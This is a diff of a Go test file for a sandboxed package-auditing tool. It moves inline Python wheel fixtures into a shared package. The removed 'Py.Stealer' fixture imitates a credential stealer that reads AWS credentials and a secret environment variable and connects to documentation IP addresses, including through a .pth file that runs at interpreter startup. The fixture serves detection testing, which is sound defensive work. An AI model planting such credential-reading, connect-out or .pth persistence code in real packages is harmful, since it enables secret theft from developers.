@@ -16,28 +16,6 @@ import (
 	"github.com/depbox/depbox/profile"
 )
 
-// The Python fixtures: wheels written by the test (no build step), served
-// by a PEP 503 index on loopback. Their code runs only inside depbox's
-// sandbox and contacts only documentation addresses.
-var (
-	pyHelper = audittest.Wheel{Name: "py-helper", Version: "2.0",
-		Files: map[string]string{"py_helper/__init__.py": "def pad(s):\n    return ' ' + s\n"}}
-	// pyStealer reads the bait credentials and connects to 198.51.100.23:443
-	// when imported, and installs a .pth file whose code sends a canary's
-	// name to 192.0.2.44:443 at every interpreter start.
-	pyStealer = audittest.Wheel{Name: "Py.Stealer", Version: "1.0", Requires: []string{"py-helper>=2"},
-		Files: map[string]string{
-			"py_stealer/__init__.py": "# TEST FIXTURE imitating a credential stealer; runs only in depbox's sandbox.\n" +
-				"import os, socket\nimport py_helper\n" +
-				"try:\n    open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    pass\n" +
-				"s = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(('198.51.100.23', 443))\nexcept OSError:\n    pass\n",
-			"py_stealer_boot.py": "# TEST FIXTURE: a .pth payload; runs only in depbox's sandbox.\n" +
-				"import os, socket\nk = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n" +
-				"s = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(('192.0.2.44', 443))\nexcept OSError:\n    pass\n",
-			"py_stealer.pth": "import py_stealer_boot\n",
-		}}
-)
-
 // requirePip skips (in CI: fails) when the sandbox's Python has no pip.
 func requirePip(t *testing.T) {
 	t.Helper()
@@ -64,7 +42,7 @@ func pypiSource(ix *audittest.Index) *audit.PyPI {
 func TestAuditPyPI(t *testing.T) {
 	requirePip(t)
 	a, scans := auditor(t)
-	ix := audittest.NewIndex(t, pyHelper, pyStealer)
+	ix := audittest.NewIndex(t, audittest.PyHelper, audittest.PyStealer)
 	a.PyPI = pypiSource(ix)
 	spec, err := audit.ParseSpec("pypi:py-stealer@1.0")
 	if err != nil {
@@ -77,7 +55,7 @@ func TestAuditPyPI(t *testing.T) {
 	if r.Profile.Incomplete {
 		t.Fatalf("incomplete: %+v", r.Profile.Problems)
 	}
-	if r.Name != "Py.Stealer" || r.Version != "1.0" || r.Path != pyStealer.DistInfo() || !strings.HasPrefix(r.Integrity, "sha512-") {
+	if r.Name != "Py.Stealer" || r.Version != "1.0" || r.Path != audittest.PyStealer.DistInfo() || !strings.HasPrefix(r.Integrity, "sha512-") {
 		t.Errorf("result %s %s at %s, integrity %s", r.Name, r.Version, r.Path, r.Integrity)
 	}
 	if r.Profile.Bundle.Name != "Py.Stealer@1.0" || r.Label() != "pypi:Py.Stealer@1.0" {
@@ -90,15 +68,15 @@ func TestAuditPyPI(t *testing.T) {
 	if st := phase(t, r, profile.PhaseStartup); !hasPeer(st, "192.0.2.44", 443) || !slices.Contains(st.Env, "AWS_SECRET_ACCESS_KEY") {
 		t.Errorf("startup phase: the .pth payload's read and connection are missing: %+v", st)
 	}
-	helper := r.Profile.Dependency(pyHelper.DistInfo())
+	helper := r.Profile.Dependency(audittest.PyHelper.DistInfo())
 	if helper == nil {
-		t.Fatalf("the dependency %s is not in the profile: %+v", pyHelper.DistInfo(), r.Profile.Dependencies)
+		t.Fatalf("the dependency %s is not in the profile: %+v", audittest.PyHelper.DistInfo(), r.Profile.Dependencies)
 	}
 	if b := helper.Phases[profile.PhaseImport]; b == nil || !b.Empty() {
 		t.Errorf("py-helper should do nothing of its own: %+v", b)
 	}
 	served := ix.Served()
-	for _, want := range []string{"/simple/py-stealer/", "/simple/py-helper/", "/files/" + pyStealer.FileName(), "/files/" + pyHelper.FileName()} {
+	for _, want := range []string{"/simple/py-stealer/", "/simple/py-helper/", "/files/" + audittest.PyStealer.FileName(), "/files/" + audittest.PyHelper.FileName()} {
 		if !slices.Contains(served, want) {
 			t.Errorf("the index never served %s: %v", want, served)
 		}
@@ -107,7 +85,7 @@ func TestAuditPyPI(t *testing.T) {
 		t.Fatalf("%d sandbox runs, want 1", n)
 	}
 	// A local wheel of the same bytes: the same result, from the cache.
-	file := audittest.WriteWheel(t, t.TempDir(), pyStealer)
+	file := audittest.WriteWheel(t, t.TempDir(), audittest.PyStealer)
 	ws, err := audit.ParseSpec(file)
 	if err != nil {
 		t.Fatal(err)
@@ -128,7 +106,7 @@ func TestAuditPyPI(t *testing.T) {
 // version, is the input's fault, and that the files are hashed.
 func TestPyPIResolveFailsClosed(t *testing.T) {
 	requirePip(t)
-	ix := audittest.NewIndex(t, pyHelper, pyStealer)
+	ix := audittest.NewIndex(t, audittest.PyHelper, audittest.PyStealer)
 	src := pypiSource(ix)
 	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
 	defer cancel()
@@ -136,10 +114,10 @@ func TestPyPIResolveFailsClosed(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if r.Name != "py-helper" || r.Version != "2.0" || r.Path != pyHelper.DistInfo() {
+	if r.Name != "py-helper" || r.Version != "2.0" || r.Path != audittest.PyHelper.DistInfo() {
 		t.Errorf("resolved %s %s at %s", r.Name, r.Version, r.Path)
 	}
-	if want, err := audit.Integrity(audittest.WriteWheel(t, t.TempDir(), pyHelper)); err != nil || r.Integrity != want {
+	if want, err := audit.Integrity(audittest.WriteWheel(t, t.TempDir(), audittest.PyHelper)); err != nil || r.Integrity != want {
 		t.Errorf("integrity %s, want %s (%v)", r.Integrity, want, err)
 	}
 	for _, tt := range []struct {
@@ -157,9 +135,9 @@ func TestPyPIResolveFailsClosed(t *testing.T) {
 		}
 	}
 	// The dependency's bytes change; the index still lists the old hash.
-	bad := pyHelper
+	bad := audittest.PyHelper
 	bad.Files = map[string]string{"py_helper/__init__.py": "# TEST FIXTURE: tampered; never run.\nraise SystemExit(1)\n"}
-	ix.Tamper(pyHelper, bad.Bytes(t))
+	ix.Tamper(audittest.PyHelper, bad.Bytes(t))
 	_, err = src.Resolve(ctx, audit.Spec{Ecosystem: audit.EcosystemPyPI, Name: "py-stealer", Version: "1.0"}, t.TempDir())
 	t.Logf("tampered: %v", err)
 	if !errors.Is(err, audit.ErrIntegrity) || audit.IsInput(err) {
